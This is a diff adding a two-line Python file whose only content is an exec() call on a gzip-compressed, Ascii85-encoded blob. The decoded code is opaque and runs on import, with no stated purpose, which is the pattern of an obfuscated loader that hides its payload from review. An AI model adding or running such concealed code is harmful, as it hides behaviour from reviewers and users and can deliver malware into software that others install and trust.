@@ -1,0 +1,2 @@
+import gzip,base64
+exec(gzip.decompress(base64.a85decode(r'''+,^C)z!Wu_*bA+pK&A7lj(8'[-<LqK(E:GURdUNPL8_1/&]aBqX:eLc$.ncZKJ[(N/SXJ#sl"XLS8V`ufMA,]6ms7t2M92?.X<H4(P-<hVk[\U3>6(;$/DlK=U!GD0aoq_GAA_g=$j/Nnj&ls7\=):E!?)%9+M!!L#rZJj380c%FO8++L1W_tlbEbMfiZsB3hp)!6k[VHJk&rC9,5cmR-DIcM7$P5g*F&JCqd"FpP.(AcZ=34bU\)]9.VRCS[67f<<muE6u)Jt;g8LV\DNss0K[G%:Pi0Q/bpK\?B4_12R9=Q%OQ$`jIra%:_73n8ec2.>Ij.9+P)>6+d]%dpL5H=E*qM'-*1OaY@67'SuX>URi[e<4eYd#F\jP&SWkUf<O+3j!SY>59b[X/!!''')))
